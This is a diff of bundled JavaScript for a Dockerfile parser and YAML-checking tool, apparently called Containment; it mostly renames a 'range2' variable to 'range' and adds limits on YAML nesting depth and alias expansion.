@@ -17548,8 +17548,8 @@ var require_instruction = __commonJS({
         let content = "";
         let ranges = this.getArgumentsRanges();
         let documentText = this.document.getText();
-        for (let range2 of ranges) {
-          content += documentText.substring(this.document.offsetAt(range2.start), this.document.offsetAt(range2.end));
+        for (let range of ranges) {
+          content += documentText.substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
         }
         return content;
       }
@@ -17558,11 +17558,11 @@ var require_instruction = __commonJS({
       }
       getRawArguments() {
         let args = [];
-        let range2 = this.getInstructionRange();
-        let extra = this.document.offsetAt(range2.end) - this.document.offsetAt(range2.start);
+        let range = this.getInstructionRange();
+        let extra = this.document.offsetAt(range.end) - this.document.offsetAt(range.start);
         let content = this.getTextContent();
         let fullArgs = content.substring(extra);
-        let offset = this.document.offsetAt(range2.start) + extra;
+        let offset = this.document.offsetAt(range.start) + extra;
         let start = false;
         let comment = false;
         let found = -1;
@@ -17728,8 +17728,8 @@ var require_instruction = __commonJS({
         const variables = [];
         const args = this.getRawArguments();
         for (const arg of args) {
-          let range2 = arg.getRange();
-          let rawValue = this.document.getText().substring(this.document.offsetAt(range2.start), this.document.offsetAt(range2.end));
+          let range = arg.getRange();
+          let rawValue = this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
           const parsedVariables = this.parseVariables(this.document.offsetAt(arg.getRange().start), rawValue);
           for (const parsedVariable of parsedVariables) {
             variables.push(parsedVariable);
@@ -18064,8 +18064,8 @@ var require_instruction = __commonJS({
           return [];
         }
         const heredocs = [];
-        const range2 = this.getRange();
-        if (range2.start.line === range2.end.line) {
+        const range = this.getRange();
+        if (range.start.line === range.end.line) {
           return this.createSingleLineHeredocs(args);
         }
         const heredocDefinitions = [];
@@ -18172,9 +18172,9 @@ var require_instruction = __commonJS({
           const nameRange = this.getNameRange(startRange);
           const name = this.getName(nameRange);
           let contentRange = null;
-          const delimiterRange = this.getDelimiterRange(arg, name, vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + lineStart), range2.end));
+          const delimiterRange = this.getDelimiterRange(arg, name, vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + lineStart), range.end));
           if (delimiterRange === null) {
-            contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), range2.end);
+            contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), range.end);
           } else if (contentEnd !== -1) {
             contentRange = vscode_languageserver_types_1.Range.create(this.document.positionAt(startOffset + contentStart), this.document.positionAt(startOffset + contentEnd));
           }
@@ -18219,8 +18219,8 @@ var require_flagOption = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.FlagOption = void 0;
     var FlagOption = class {
-      constructor(range2, name, nameRange, value, valueRange) {
-        this.range = range2;
+      constructor(range, name, nameRange, value, valueRange) {
+        this.range = range;
         this.name = name;
         this.nameRange = nameRange;
         this.value = value;
@@ -18261,9 +18261,9 @@ var require_flag = __commonJS({
     var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
     var flagOption_1 = require_flagOption();
     var Flag = class {
-      constructor(document, range2, name, nameRange, value, valueRange) {
+      constructor(document, range, name, nameRange, value, valueRange) {
         this.options = [];
-        this.range = range2;
+        this.range = range;
         this.name = name;
         this.nameRange = nameRange;
         this.value = value;
@@ -18390,8 +18390,8 @@ var require_modifiableInstruction = __commonJS({
     var flag_1 = require_flag();
     var instruction_1 = require_instruction();
     var ModifiableInstruction2 = class extends instruction_1.Instruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       getFlags() {
         if (!this.flags) {
@@ -18401,8 +18401,8 @@ var require_modifiableInstruction = __commonJS({
             if (this.stopSearchingForFlags(value)) {
               return this.flags;
             } else if (value.indexOf("--") === 0) {
-              let range2 = arg.getRange();
-              let rawValue = this.document.getText().substring(this.document.offsetAt(range2.start), this.document.offsetAt(range2.end));
+              let range = arg.getRange();
+              let rawValue = this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
               let nameIndex = value.indexOf("=");
               let index = rawValue.indexOf("=");
               let firstMatch = false;
@@ -18431,15 +18431,15 @@ var require_modifiableInstruction = __commonJS({
                     break nameSearchLoop;
                 }
               }
-              let nameStart = this.document.positionAt(this.document.offsetAt(range2.start) + startIndex);
+              let nameStart = this.document.positionAt(this.document.offsetAt(range.start) + startIndex);
               if (index === -1) {
-                this.flags.push(new flag_1.Flag(this.document, range2, value.substring(2), vscode_languageserver_types_1.Range.create(nameStart, range2.end), null, null));
+                this.flags.push(new flag_1.Flag(this.document, range, value.substring(2), vscode_languageserver_types_1.Range.create(nameStart, range.end), null, null));
               } else if (index === value.length - 1) {
-                let nameEnd = this.document.positionAt(this.document.offsetAt(range2.start) + index);
-                this.flags.push(new flag_1.Flag(this.document, range2, value.substring(2, index), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), "", vscode_languageserver_types_1.Range.create(range2.end, range2.end)));
+                let nameEnd = this.document.positionAt(this.document.offsetAt(range.start) + index);
+                this.flags.push(new flag_1.Flag(this.document, range, value.substring(2, index), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), "", vscode_languageserver_types_1.Range.create(range.end, range.end)));
               } else {
-                let nameEnd = this.document.positionAt(this.document.offsetAt(range2.start) + index);
-                this.flags.push(new flag_1.Flag(this.document, range2, value.substring(2, nameIndex), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), value.substring(nameIndex + 1), vscode_languageserver_types_1.Range.create(this.document.positionAt(this.document.offsetAt(range2.start) + index + 1), range2.end)));
+                let nameEnd = this.document.positionAt(this.document.offsetAt(range.start) + index);
+                this.flags.push(new flag_1.Flag(this.document, range, value.substring(2, nameIndex), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), value.substring(nameIndex + 1), vscode_languageserver_types_1.Range.create(this.document.positionAt(this.document.offsetAt(range.start) + index + 1), range.end)));
               }
             }
           }
@@ -18473,8 +18473,8 @@ var require_jsonInstruction = __commonJS({
     var jsonArgument_1 = require_jsonArgument();
     var modifiableInstruction_1 = require_modifiableInstruction();
     var JSONInstruction = class extends modifiableInstruction_1.ModifiableInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
         this.openingBracket = null;
         this.closingBracket = null;
         this.jsonStrings = [];
@@ -18635,8 +18635,8 @@ var require_add = __commonJS({
     exports.Add = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Add = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       stopSearchingForFlags(argument) {
         return argument.indexOf("--") === -1;
@@ -18970,8 +18970,8 @@ var require_propertyInstruction = __commonJS({
     var argument_1 = require_argument();
     var util_1 = require_util2();
     var PropertyInstruction = class extends instruction_1.Instruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
         this.properties = void 0;
       }
       getProperties() {
@@ -19051,9 +19051,9 @@ var require_propertyInstruction = __commonJS({
       }
       getPropertyArguments() {
         const args = [];
-        let range2 = this.getInstructionRange();
-        let instructionNameEndOffset = this.document.offsetAt(range2.end);
-        let extra = instructionNameEndOffset - this.document.offsetAt(range2.start);
+        let range = this.getInstructionRange();
+        let instructionNameEndOffset = this.document.offsetAt(range.end);
+        let extra = instructionNameEndOffset - this.document.offsetAt(range.start);
         let content = this.getTextContent();
         let fullArgs = content.substring(extra);
         let start = util_1.Util.findLeadingNonWhitespace(fullArgs, this.escapeChar);
@@ -19061,7 +19061,7 @@ var require_propertyInstruction = __commonJS({
           return [];
         }
         const startPosition = this.document.positionAt(instructionNameEndOffset + start);
-        let escaped = range2.start.line !== startPosition.line;
+        let escaped = range.start.line !== startPosition.line;
         let endingEscape = false;
         let mark = -1;
         let end = this.findTrailingNonWhitespace(fullArgs);
@@ -19264,8 +19264,8 @@ var require_arg = __commonJS({
     var property_1 = require_property();
     var propertyInstruction_1 = require_propertyInstruction();
     var Arg2 = class extends propertyInstruction_1.PropertyInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
         this.property = null;
         const args = this.getPropertyArguments();
         if (args.length === 1) {
@@ -19295,8 +19295,8 @@ var require_cmd = __commonJS({
     exports.Cmd = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Cmd = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
     };
     exports.Cmd = Cmd;
@@ -19311,8 +19311,8 @@ var require_copy = __commonJS({
     exports.Copy = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Copy = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       stopSearchingForFlags(argument) {
         return argument.indexOf("--") === -1;
@@ -19343,8 +19343,8 @@ var require_env = __commonJS({
     exports.Env = void 0;
     var propertyInstruction_1 = require_propertyInstruction();
     var Env = class extends propertyInstruction_1.PropertyInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       getProperties() {
         return super.getProperties();
@@ -19362,8 +19362,8 @@ var require_entrypoint = __commonJS({
     exports.Entrypoint = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Entrypoint = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
     };
     exports.Entrypoint = Entrypoint;
@@ -19379,8 +19379,8 @@ var require_from = __commonJS({
     var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
     var modifiableInstruction_1 = require_modifiableInstruction();
     var From = class extends modifiableInstruction_1.ModifiableInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       stopSearchingForFlags(argument) {
         return argument.indexOf("--") === -1;
@@ -19442,22 +19442,22 @@ var require_from = __commonJS({
        *         or null if no image has been specified
        */
       getImageNameRange() {
-        let range2 = this.getImageRange();
-        if (range2) {
+        let range = this.getImageRange();
+        if (range) {
           let registryRange = this.getRegistryRange();
           if (registryRange) {
-            range2.start = this.document.positionAt(this.document.offsetAt(registryRange.end) + 1);
+            range.start = this.document.positionAt(this.document.offsetAt(registryRange.end) + 1);
           }
           let tagRange = this.getImageTagRange();
           let digestRange = this.getImageDigestRange();
           if (tagRange === null) {
             if (digestRange !== null) {
-              range2.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
+              range.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
             }
           } else {
-            range2.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
+            range.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
           }
-          return range2;
+          return range;
         }
         return null;
       }
@@ -19484,16 +19484,16 @@ var require_from = __commonJS({
        *         if no tag has been specified
        */
       getImageTagRange() {
-        const range2 = this.getImageRange();
-        if (range2) {
-          const rangeStartOffset = this.document.offsetAt(range2.start);
-          const content = this.getRangeContent(range2);
+        const range = this.getImageRange();
+        if (range) {
+          const rangeStartOffset = this.document.offsetAt(range.start);
+          const content = this.getRangeContent(range);
           const atIndex = this.indexOf(rangeStartOffset, content, "@");
           const slashIndex = content.indexOf("/");
           if (atIndex === -1) {
             const colonIndex = this.lastIndexOf(rangeStartOffset, content, ":");
             if (colonIndex > slashIndex) {
-              return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + colonIndex + 1), range2.end);
+              return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + colonIndex + 1), range.end);
             }
           }
           const subcontent = content.substring(0, atIndex);
@@ -19522,12 +19522,12 @@ var require_from = __commonJS({
        *         if no digest has been specified
        */
       getImageDigestRange() {
-        let range2 = this.getImageRange();
-        if (range2) {
-          let content = this.getRangeContent(range2);
-          let index = this.lastIndexOf(this.document.offsetAt(range2.start), content, "@");
+        let range = this.getImageRange();
+        if (range) {
+          let content = this.getRangeContent(range);
+          let index = this.lastIndexOf(this.document.offsetAt(range.start), content, "@");
           if (index !== -1) {
-            return vscode_languageserver_types_1.Range.create(range2.start.line, range2.start.character + index + 1, range2.end.line, range2.end.character);
+            return vscode_languageserver_types_1.Range.create(range.start.line, range.start.character + index + 1, range.end.line, range.end.character);
           }
         }
         return null;
@@ -19573,19 +19573,19 @@ var require_from = __commonJS({
         return this.getRangeContent(this.getRegistryRange());
       }
       getRegistryRange() {
-        const range2 = this.getImageRange();
-        if (range2) {
+        const range = this.getImageRange();
+        if (range) {
           const tagRange = this.getImageTagRange();
           const digestRange = this.getImageDigestRange();
           if (tagRange === null) {
             if (digestRange !== null) {
-              range2.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
+              range.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
             }
           } else {
-            range2.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
+            range.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
           }
-          const content = this.getRangeContent(range2);
-          const rangeStart = this.document.offsetAt(range2.start);
+          const content = this.getRangeContent(range);
+          const rangeStart = this.document.offsetAt(range.start);
           const startingSlashIndex = this.indexOf(rangeStart, content, "/");
           if (startingSlashIndex === -1) {
             return null;
@@ -19593,18 +19593,18 @@ var require_from = __commonJS({
           const portIndex = this.indexOf(rangeStart, content, ":");
           const dotIndex = this.indexOf(rangeStart, content, ".");
           if (portIndex !== -1 || dotIndex !== -1) {
-            return vscode_languageserver_types_1.Range.create(range2.start, this.document.positionAt(rangeStart + startingSlashIndex));
+            return vscode_languageserver_types_1.Range.create(range.start, this.document.positionAt(rangeStart + startingSlashIndex));
           }
           const registry = content.substring(0, startingSlashIndex);
           if (registry === "localhost") {
-            return vscode_languageserver_types_1.Range.create(range2.start, this.document.positionAt(rangeStart + startingSlashIndex));
+            return vscode_languageserver_types_1.Range.create(range.start, this.document.positionAt(rangeStart + startingSlashIndex));
           }
         }
         return null;
       }
       getBuildStage() {
-        let range2 = this.getBuildStageRange();
-        return range2 === null ? null : this.getRangeContent(range2);
+        let range = this.getBuildStageRange();
+        return range === null ? null : this.getRangeContent(range);
       }
       getBuildStageRange() {
         let args = this.getArguments();
@@ -19630,8 +19630,8 @@ var require_healthcheck = __commonJS({
     exports.Healthcheck = void 0;
     var modifiableInstruction_1 = require_modifiableInstruction();
     var Healthcheck = class extends modifiableInstruction_1.ModifiableInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       stopSearchingForFlags(argument) {
         argument = argument.toUpperCase();
@@ -19655,8 +19655,8 @@ var require_label = __commonJS({
     var propertyInstruction_1 = require_propertyInstruction();
     var util_1 = require_util2();
     var Label = class extends propertyInstruction_1.PropertyInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       getVariables() {
         const variables = super.getVariables();
@@ -19664,9 +19664,9 @@ var require_label = __commonJS({
         for (const property of properties) {
           const value = property.getUnescapedValue();
           if (value !== null && value.length > 2 && value.charAt(0) === "'" && value.charAt(value.length - 1) === "'") {
-            const range2 = property.getValueRange();
+            const range = property.getValueRange();
             for (let i = 0; i < variables.length; i++) {
-              if (util_1.Util.isInsideRange(variables[i].getRange().start, range2)) {
+              if (util_1.Util.isInsideRange(variables[i].getRange().start, range)) {
                 variables.splice(i, 1);
                 i--;
               }
@@ -19693,8 +19693,8 @@ var require_onbuild = __commonJS({
     var parser_1 = require_parser2();
     var instruction_1 = require_instruction();
     var Onbuild = class extends instruction_1.Instruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       getTrigger() {
         let trigger = this.getTriggerWord();
@@ -19728,8 +19728,8 @@ var require_run = __commonJS({
     exports.Run = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Run2 = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       stopSearchingForFlags(argument) {
         return argument.indexOf("--") === -1;
@@ -19756,8 +19756,8 @@ var require_shell = __commonJS({
     exports.Shell = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Shell = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
     };
     exports.Shell = Shell;
@@ -19772,8 +19772,8 @@ var require_stopsignal = __commonJS({
     exports.Stopsignal = void 0;
     var instruction_1 = require_instruction();
     var Stopsignal = class extends instruction_1.Instruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
     };
     exports.Stopsignal = Stopsignal;
@@ -19788,8 +19788,8 @@ var require_workdir = __commonJS({
     exports.Workdir = void 0;
     var instruction_1 = require_instruction();
     var Workdir = class extends instruction_1.Instruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
       /**
        * Returns the path that has been defined. Note that this path may
@@ -19847,8 +19847,8 @@ var require_user = __commonJS({
     exports.User = void 0;
     var instruction_1 = require_instruction();
     var User = class extends instruction_1.Instruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
     };
     exports.User = User;
@@ -19863,8 +19863,8 @@ var require_volume = __commonJS({
     exports.Volume = void 0;
     var jsonInstruction_1 = require_jsonInstruction();
     var Volume = class extends jsonInstruction_1.JSONInstruction {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2, dockerfile, escapeChar, instruction, instructionRange);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
       }
     };
     exports.Volume = Volume;
@@ -20097,11 +20097,11 @@ var require_imageTemplate = __commonJS({
         return vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
       }
       contains(position2) {
-        const range2 = this.getRange();
-        if (range2 === null) {
+        const range = this.getRange();
+        if (range === null) {
           return false;
         }
-        return util_1.Util.isInsideRange(position2, range2);
+        return util_1.Util.isInsideRange(position2, range);
       }
     };
     exports.ImageTemplate = ImageTemplate;
@@ -20144,8 +20144,8 @@ var require_dockerfile = __commonJS({
         return this.initialInstructions.getARGs();
       }
       getContainingImage(position2) {
-        let range2 = vscode_languageserver_types_1.Range.create(vscode_languageserver_types_1.Position.create(0, 0), this.document.positionAt(this.document.getText().length));
-        if (!util_1.Util.isInsideRange(position2, range2)) {
+        let range = vscode_languageserver_types_1.Range.create(vscode_languageserver_types_1.Position.create(0, 0), this.document.positionAt(this.document.getText().length));
+        if (!util_1.Util.isInsideRange(position2, range)) {
           return null;
         }
         if (this.initialInstructions.getComments().length > 0 || this.initialInstructions.getInstructions().length > 0) {
@@ -20184,8 +20184,8 @@ var require_dockerfile = __commonJS({
       }
       resolveVariable(variable, line) {
         for (let from of this.getFROMs()) {
-          let range2 = from.getRange();
-          if (range2.start.line <= line && line <= range2.end.line) {
+          let range = from.getRange();
+          if (range.start.line <= line && line <= range.end.line) {
             let initialARGs = new imageTemplate_1.ImageTemplate();
             for (let instruction of this.initialInstructions.getARGs()) {
               initialARGs.addInstruction(instruction);
@@ -20229,11 +20229,11 @@ var require_dockerfile = __commonJS({
         }
         for (const from of this.getFROMs()) {
           if (from.getBuildStage() === imageName) {
-            const range2 = from.getRange();
-            if (range2.start.line === templateFrom.getRange().start.line) {
+            const range = from.getRange();
+            if (range.start.line === templateFrom.getRange().start.line) {
               return null;
             }
-            return this.getContainingImage(range2.start);
+            return this.getContainingImage(range.start);
           }
         }
         return null;
@@ -20289,13 +20289,13 @@ var require_dockerfile = __commonJS({
       getRange() {
         const comments = this.getComments();
         const instructions = this.getInstructions();
-        let range2 = null;
+        let range = null;
         if (comments.length === 0) {
           if (instructions.length > 0) {
-            range2 = vscode_languageserver_types_1.Range.create(instructions[0].getRange().start, instructions[instructions.length - 1].getRange().end);
+            range = vscode_languageserver_types_1.Range.create(instructions[0].getRange().start, instructions[instructions.length - 1].getRange().end);
           }
         } else if (instructions.length === 0) {
-          range2 = vscode_languageserver_types_1.Range.create(comments[0].getRange().start, comments[comments.length - 1].getRange().end);
+          range = vscode_languageserver_types_1.Range.create(comments[0].getRange().start, comments[comments.length - 1].getRange().end);
         } else {
           const commentStart = comments[0].getRange().start;
           const commentEnd = comments[comments.length - 1].getRange().end;
@@ -20303,24 +20303,24 @@ var require_dockerfile = __commonJS({
           const instructionEnd = instructions[instructions.length - 1].getRange().end;
           if (commentStart.line < instructionStart.line) {
             if (commentEnd.line < instructionEnd.line) {
-              range2 = vscode_languageserver_types_1.Range.create(commentStart, instructionEnd);
+              range = vscode_languageserver_types_1.Range.create(commentStart, instructionEnd);
             }
-            range2 = vscode_languageserver_types_1.Range.create(commentStart, commentEnd);
+            range = vscode_languageserver_types_1.Range.create(commentStart, commentEnd);
           } else if (commentEnd.line < instructionEnd.line) {
-            range2 = vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
+            range = vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
           } else {
-            range2 = vscode_languageserver_types_1.Range.create(instructionStart, commentEnd);
+            range = vscode_languageserver_types_1.Range.create(instructionStart, commentEnd);
           }
         }
-        if (range2 === null) {
+        if (range === null) {
           if (this.directives.length === 0) {
             return null;
           }
           return this.directives[0].getRange();
         } else if (this.directives.length === 0) {
-          return range2;
+          return range;
         }
-        return vscode_languageserver_types_1.Range.create(this.directives[0].getRange().start, range2.end);
+        return vscode_languageserver_types_1.Range.create(this.directives[0].getRange().start, range.end);
       }
     };
     exports.Dockerfile = Dockerfile;
@@ -20357,7 +20357,7 @@ var require_parser2 = __commonJS({
     var dockerfile_1 = require_dockerfile();
     var util_1 = require_util2();
     var main_1 = require_main();
-    var Parser2 = class _Parser {
+    var Parser4 = class _Parser {
       constructor() {
         this.escapeChar = null;
       }
@@ -20707,8 +20707,8 @@ var require_parser2 = __commonJS({
               break commentLoop;
           }
         }
-        const range2 = vscode_languageserver_types_1.Range.create(this.document.positionAt(start), this.document.positionAt(end));
-        dockerfile.addComment(new comment_1.Comment(this.document, range2));
+        const range = vscode_languageserver_types_1.Range.create(this.document.positionAt(start), this.document.positionAt(end));
+        dockerfile.addComment(new comment_1.Comment(this.document, range));
         return end;
       }
       parseHeredoc(heredocName, offset, tabbed) {
@@ -20749,7 +20749,7 @@ var require_parser2 = __commonJS({
         return _Parser.createInstruction(this.document, dockerfile, this.escapeChar, lineRange, instruction, instructionRange);
       }
     };
-    exports.Parser = Parser2;
+    exports.Parser = Parser4;
   }
 });
 
@@ -21700,7 +21700,7 @@ function formatLoadError(error) {
 }
 
 // src/documents/yaml-source.ts
-var import_yaml = __toESM(require_dist(), 1);
+var import_yaml2 = __toESM(require_dist(), 1);
 
 // src/documents/json-pointer.ts
 function parsePointer(pointer) {
@@ -21760,92 +21760,61 @@ var LineIndex = class {
   }
 };
 
-// src/documents/yaml-source.ts
-var MAX_ALIAS_COUNT = 1e3;
-function readYaml(text3) {
-  const lineCounter = new import_yaml.LineCounter();
-  const docs = (0, import_yaml.parseAllDocuments)(text3, {
-    lineCounter,
-    merge: true,
-    uniqueKeys: false,
-    keepSourceTokens: false,
-    prettyErrors: true
-  });
-  const list3 = Array.isArray(docs) ? docs : [docs];
-  const problems = [];
-  const lines = new LineIndex(text3);
-  const at = (offset, end = offset) => rangeAt(text3, lines, offset, end);
-  let broken = false;
-  const values = [];
-  if (text3.includes("\0")) {
-    const range2 = at(0);
-    const problem2 = { ruleId: "parse-error", message: "This file is binary (it contains NUL bytes), not YAML, so it was not checked.", range: range2 };
-    return { value: null, values: [null], problems: [problem2], broken: true, locate: () => range2 };
-  }
-  for (const doc of list3) {
-    let tooDeep = false;
-    for (const error of doc.errors) {
-      broken = true;
-      const [start, end] = error.pos;
-      if (/Maximum call stack size exceeded/.test(error.message)) {
-        if (tooDeep) continue;
-        tooDeep = true;
-        problems.push({
-          ruleId: "parse-error",
-          message: "This file nests its collections thousands of levels deep, more than Containment can read, so nothing in it was checked.",
-          range: at(start, Math.max(end, start))
-        });
-        continue;
+// src/documents/yaml-nesting.ts
+var MAX_NESTING_DEPTH = 200;
+function tooDeepOffset(token, max = MAX_NESTING_DEPTH) {
+  const stack = [[token, 0]];
+  while (stack.length) {
+    const [node, depth] = stack.pop();
+    if (!node) continue;
+    switch (node.type) {
+      case "document":
+        stack.push([node.value, depth]);
+        break;
+      case "block-map":
+      case "block-seq":
+      case "flow-collection": {
+        if (depth + 1 > max) return node.offset;
+        for (const item of [...node.items].reverse()) {
+          stack.push([item.value, depth + 1]);
+          if ("key" in item) stack.push([item.key, depth + 1]);
+        }
+        break;
       }
-      problems.push({
-        ruleId: "parse-error",
-        message: `This file is not valid YAML, so nothing in it was checked: ${firstLine(error.message)}`,
-        range: at(start, Math.max(end, start))
-      });
-    }
-    reportDuplicateKeys(doc.contents, at, problems);
-    try {
-      values.push(doc.errors.length ? null : doc.toJS({ maxAliasCount: MAX_ALIAS_COUNT }));
-    } catch (error) {
-      broken = true;
-      values.push(null);
-      problems.push({
-        ruleId: "parse-error",
-        message: `This file expands more than ${MAX_ALIAS_COUNT} YAML aliases, which is how "billion laughs" attacks exhaust memory, so nothing in it was checked (${firstLine(String(error.message))}).`,
-        range: at(firstAliasOffset(doc.contents) ?? 0)
-      });
+      default:
+        break;
     }
   }
-  const locate = (pointer, lineOffset, index = 0) => {
-    const doc = list3[index] ?? list3[0];
-    if (!doc?.contents) return at(0);
-    const found = walk(doc, parsePointer(pointer));
-    return rangeOf(found, text3, at, lines, lineOffset);
-  };
-  return { value: values[0] ?? null, values, problems, broken, locate };
+  return void 0;
 }
-function firstLine(message) {
-  return message.split("\n")[0].trim();
-}
-function walk(doc, segments) {
-  let current = { node: doc.contents };
-  for (const segment of segments) {
-    const node = deref(doc, current.node);
-    let next;
-    if ((0, import_yaml.isMap)(node)) next = findInMap(doc, node, segment, /* @__PURE__ */ new Set());
-    else if ((0, import_yaml.isSeq)(node) && /^(0|[1-9]\d*)$/.test(segment)) {
-      const item = node.items[Number(segment)];
-      if (item !== void 0) next = { node: item };
-    }
-    if (!next) return current;
-    current = next;
+
+// src/documents/yaml-value.ts
+var import_yaml = __toESM(require_dist(), 1);
+var MAX_ALIAS_EXPANSION = 2e5;
+function yamlValue(doc, maxExpansion = MAX_ALIAS_EXPANSION) {
+  const targets = aliasTargets(doc);
+  const root = doc.contents;
+  const measured = expansion(root, targets);
